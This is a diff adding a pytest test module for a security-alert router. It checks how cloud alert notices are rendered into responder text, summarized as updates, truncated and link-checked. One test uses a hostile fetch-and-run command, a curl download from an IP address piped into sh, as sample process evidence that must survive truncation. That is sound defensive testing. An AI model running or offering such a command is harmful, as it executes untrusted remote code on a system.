@@ -1,0 +1,257 @@
+"""What people read: in a responder's order, with what is new against what they were told, and cut where they can do without."""
+
+from __future__ import annotations
+
+from dataclasses import fields, replace
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from router.destinations.wording import headlines
+from router.destinations.wording.briefing import Fact
+from router.destinations.wording.changes import changes_between
+from router.destinations.wording.evidence import EVIDENCE, title_of
+from router.destinations.wording.plain_text import note_of, text_of
+from router.destinations.wording.times import length_words, time_words
+from router.domain.background import Background, Counterpart, Earlier
+from router.domain.decisions import Change
+from router.domain.evidence import Evidence
+from router.domain.notices import Notice, Release, Tactic
+from router.domain.posture import Image, Package, Risk
+from router.domain.rulebook import Lane, Owner
+from router.domain.severity import Severity
+from router.domain.web_links import Link
+from tests.destinations.builders import NOW, RESOURCE, a_briefing, a_group, a_huge_notice, a_notice
+
+WORDING = Path(headlines.__file__).parent
+LIMIT = 4_000
+FOUND_BY_OTHERS = Background(
+    elsewhere=(
+        Counterpart(destination="oncall", lane=Lane.PAGE, reference="PD-7", link="https://contoso.pagerduty.example/7"),
+        Counterpart(destination="soc", lane=Lane.TICKET, reference="INC7", link="https://snow.example/7"),
+        Counterpart(destination="chat", lane=Lane.TICKET, reference="a message"),
+    ),
+    earlier=Earlier(count=3, last=NOW - timedelta(days=2), is_whole=False),
+)
+
+
+def test_sections_stand_in_a_responders_order() -> None:
+    """What happened, where, since when, why you, evidence, what to do, links, and last what other tools ask for."""
+    release, runbooks = Release(kind="rule", name="scanner", messages=1), ("https://wiki.example/vm",)
+    notice = a_notice(release=release, unlisted=("attempts",), runbooks=runbooks)
+    text = text_of(a_briefing(notice, background=FOUND_BY_OTHERS), LIMIT)
+    told = (
+        notice.description,
+        "The rule scanner held 1 message; it holds this no longer.",
+        "The same happened here at least 3 times before, last 2026-11-22 12:00 UTC.",
+        "WHAT\nSeverity: High",
+        "WHERE\nLocation: vm-pay-01",
+        "WHEN\nFirst seen: 2026-11-24 11:58 UTC",
+        "WHY YOU\nOwner: payments-platform / Payments\nSent by: route page-high",
+        "EVIDENCE\nHosts: vm-pay-01",
+        "attempts: 42",
+        "WHAT TO DO\nChange the password.",
+        "LINKS\nOpen in the Azure portal: https://portal.azure.com/#view/alerts/1\nRunbook: https://wiki.example/vm\n",
+        "Page PD-7 (oncall): https://",
+        "Ticket INC7 (soc): https://snow.example/7",
+        "REFERENCE\nType: VM_SuspiciousLogin",
+    )
+    at = [text.index(one) for one in told]
+    assert at == sorted(at)
+    assert "a message" not in text
+
+
+def test_the_resource_is_no_evidence_of_itself() -> None:
+    """It stands under where; another one stands under the evidence."""
+    evidence = Evidence(resources=(RESOURCE.upper(), "/subscriptions/other"))
+    facts = a_briefing(a_notice(evidence=evidence)).evidence
+    assert facts == (Fact("Resources", ("/subscriptions/other",)),)
+
+
+CHANGED: list[tuple[dict[str, Any], str]] = [
+    ({"severity": "Medium"}, "Severity: Medium to High."),
+    ({"risk": Risk(level=Severity.LOW, is_contextual=True)}, "Risk is no longer said; it was Low."),
+    ({"status": "Active"}, "Status: Active to New."),
+    ({"title": "Before"}, "Title: Before to Suspicious sign-in to a virtual machine."),
+    ({"description": "Before."}, "The description changed."),
+    ({"package": Package(name="a", installed=("1",), fixed="2")}, "Package is no longer said; it was a 1 -> 2."),
+    ({"image": Image(digest="sha256:1")}, "Image is no longer said; it was sha256:1."),
+    ({"cause": "Off"}, "Cause is no longer said; it was Off."),
+    ({"measure": "1 of 2"}, "Measure is no longer said; it was 1 of 2."),
+    ({"owner": Owner(group="before")}, "Owner: before to payments-platform / Payments."),
+    ({"owner": None}, "Owner: payments-platform / Payments."),
+    ({"cves": ("CVE-1",)}, "No longer in CVEs: CVE-1."),
+    ({"tactics": (Tactic("TA0001", "Initial Access"),)}, "New in Tactics: Credential Access."),
+    ({"techniques": ()}, "New in Techniques: T1110."),
+    ({"unlisted": (), "extended": {}}, "attempts: 42."),
+    ({"unlisted": (), "extended": {"attempts": "41"}}, "attempts: 41 to 42."),
+]
+
+
+@pytest.mark.parametrize(("before", "sentence"), CHANGED, ids=[next(iter(before)) for before, _ in CHANGED])
+def test_an_update_says_what_changed(before: dict[str, Any], sentence: str) -> None:
+    """Against what the destination was last told, in a sentence of its own; what stayed is not said again."""
+    notice = a_notice(unlisted=("attempts",))
+    last = replace(notice, **before)
+    assert sentence in changes_between(last, notice)
+    assert changes_between(notice, notice) == ()
+    text = note_of(a_briefing(notice, Change.UPDATED, Background(last=last)), LIMIT)
+    assert f"- {sentence}" in text
+    assert "WHAT TO DO" not in text
+
+
+@given(
+    st.sampled_from(EVIDENCE),
+    st.lists(st.sampled_from("abcdef"), unique=True),
+    st.lists(st.sampled_from("abcdef"), unique=True),
+)
+def test_what_came_to_a_list_and_what_went_is_said(name: str, before: list[str], after: list[str]) -> None:
+    """Of every list of evidence, each value once, and nothing of what stayed."""
+    last, notice = (a_notice(evidence=Evidence(**{name: tuple(one)})) for one in (before, after))
+    said = changes_between(last, notice)
+    came, went = [one for one in after if one not in before], [one for one in before if one not in after]
+    assert said == (
+        *([f"New in {title_of(name)}: {', '.join(came)}."] if came else []),
+        *([f"No longer in {title_of(name)}: {', '.join(went)}."] if went else []),
+    )
+
+
+def test_an_update_of_a_group_counts_what_joined_and_what_is_over() -> None:
+    """Against the group as it was; of the first update the last notice was that of its only member."""
+    last, notice = a_notice(group=a_group(total=2, standing=2, named=a_group().named[:1])), a_notice(group=a_group())
+    assert changes_between(last, notice) == (
+        "1 more signal: 3 in all.",
+        "1 is over; 2 still stand.",
+        "New: Unknown Sign-in from a *new* <place>.",
+    )
+    assert changes_between(a_notice(), a_notice(group=a_group(standing=3)))[0] == "2 more signals: 3 in all."
+
+
+def test_an_update_of_which_nothing_is_known_says_all() -> None:
+    """Where what the destination was last told is not kept."""
+    text = note_of(a_briefing(change=Change.UPDATED), LIMIT)
+    assert text.startswith("Updated.\n\nSomebody signed in")
+    assert "EVIDENCE" in text
+
+
+@pytest.mark.parametrize(
+    ("opened", "words"),
+    [
+        (NOW - timedelta(hours=3, minutes=12, seconds=5), " It stood here for 3 h 12 min, since 2026-11-24 08:48 UTC."),
+        (NOW + timedelta(minutes=5), ""),
+        (None, ""),
+    ],
+)
+def test_a_resolution_says_who_says_so_and_how_long_it_stood(opened: Any, words: str) -> None:
+    """As far as that is known; a clock that was wrong makes no length."""
+    text = note_of(a_briefing(change=Change.RESOLVED, background=Background(opened=opened)), LIMIT)
+    assert text == f"Microsoft Defender for Cloud reports that this is over.{words}"
+
+
+@pytest.mark.parametrize(
+    ("release", "words"),
+    [
+        (
+            Release(kind="rule", name="r", author="ana@contoso.example", since="2026-11-20T08:00:00Z", messages=7),
+            "The rule r, by ana@contoso.example, held 7 messages since 2026-11-20 08:00 UTC; it holds this no longer.",
+        ),
+        (Release(kind="rule", name="r", ended="2026-11-24T12:00:00Z"), "The rule r held it; it ended 2026-11-24 12:00 UTC."),
+        (Release(kind="silence", name="s-1", messages=1), "The silence s-1 held 1 message; it holds this no longer."),
+    ],
+)  # fmt: skip
+def test_a_release_says_what_had_held_it(release: Release, words: str) -> None:
+    """Which, whose, since when, how many messages; what an older program did not write down is left out."""
+    assert words in a_briefing(a_notice(release=release)).news
+
+
+@pytest.mark.parametrize(
+    ("length", "words"),
+    [
+        (timedelta(seconds=59), "less than a minute"),
+        (timedelta(minutes=1), "1 min"),
+        (timedelta(hours=1, seconds=59), "1 h"),
+        (timedelta(days=1, minutes=5), "1 day"),
+        (timedelta(days=2, hours=3, minutes=4), "2 days 3 h"),
+    ],
+)
+def test_a_length_is_said_in_its_two_largest_units(length: timedelta, words: str) -> None:
+    """Which is as exactly as people ask."""
+    assert length_words(length) == words
+
+
+def test_what_is_no_time_stays_as_it_is() -> None:
+    """A message may hold anything."""
+    assert (time_words("soon"), time_words(None)) == ("soon", None)
+    assert time_words("2026-11-24T13:00:00+01:00") == "2026-11-24 12:00 UTC"
+
+
+@settings(max_examples=60)
+@given(
+    st.integers(200, 6_000),
+    st.integers(0, 5_000),
+    st.integers(0, 5_000),
+    st.lists(st.integers(0, 2_000), max_size=12),
+    st.integers(0, 30),
+)
+def test_a_text_fits_and_says_where_it_was_cut(
+    limit: int, prose: int, steps: int, values: list[int], others: int
+) -> None:
+    """Whatever is long; what fits is whole."""
+    notice = a_notice(
+        description="d" * prose,
+        remediation=("r" * steps,) if steps else (),
+        evidence=Evidence(processes=tuple("p" * one for one in values if one)),
+        unlisted=tuple(f"n{number}" for number in range(others)),
+        extended={f"n{number}": "x" * number for number in range(1, others)} | {"n0": "x"},
+    )
+    whole = text_of(a_briefing(notice), 10**6)
+    text = text_of(a_briefing(notice), limit)
+    assert len(text) <= limit
+    assert text == whole if len(whole) <= limit else "… [" in text
+
+
+@pytest.mark.parametrize("long", ["description", "remediation", "members"])
+def test_evidence_is_not_starved_by_prose(long: str) -> None:
+    """A ticket of 4,000 characters keeps the command that was run, however long the rest is."""
+    longer: dict[str, dict[str, Any]] = {
+        "description": {"description": "words " * 5_000},
+        "remediation": {"remediation": ("step " * 5_000,)},
+        "members": {"group": a_group(named=tuple(replace(a_group().named[0], title="t" * 300) for _ in range(20)))},
+    }
+    command = "curl -fsSL http://198.51.100.200/k.tgz | sh"
+    text = text_of(a_briefing(a_notice(evidence=Evidence(processes=(command,)), **longer[long])), LIMIT)
+    assert command in text
+    assert "LINKS\nOpen in the Azure portal: https://portal.azure.com/#view/alerts/1" in text
+
+
+def test_a_huge_notice_is_cut_in_linear_time_and_keeps_every_section() -> None:
+    """Each heading is there."""
+    text = text_of(a_briefing(a_huge_notice()), LIMIT)
+    assert len(text) <= LIMIT
+    for heading in ("WHAT", "WHERE", "WHEN", "WHY YOU", "EVIDENCE"):
+        assert f"\n{heading}\n" in text
+
+
+def test_links_are_whole_or_not_there() -> None:
+    """One that is too long, of another scheme, or with what could end it early leads nowhere."""
+    wrong = ("http://contoso.example/", "https://contoso.example/a b", f"https://contoso.example/{'x' * 2_001}")
+    notice = a_notice(link=None, links=tuple(Link(text="t", url=url) for url in (*wrong, "https://contoso.example/ok")))
+    assert [one.url for one in a_briefing(notice).links] == ["https://contoso.example/ok"]
+
+
+def test_every_field_of_a_notice_has_its_reader() -> None:
+    """A field that is added is either told, or listed here with what it is for."""
+    untold = {
+        "key", "turn", "stream", "severity_written", "attack_version", "rulebook", "correlation", "snapshot", "status_only",
+        "cloud", "resource_type", "native_name",
+    }  # fmt: skip
+    source = (
+        "".join(path.read_text() for path in WORDING.glob("*.py") if path.name not in ("documents.py", "previews.py"))
+        + (WORDING.parents[1] / "domain" / "whereabouts.py").read_text()
+    )
+    missing = [one.name for one in fields(Notice) if f"notice.{one.name}" not in source and one.name not in untold]
+    assert missing == []
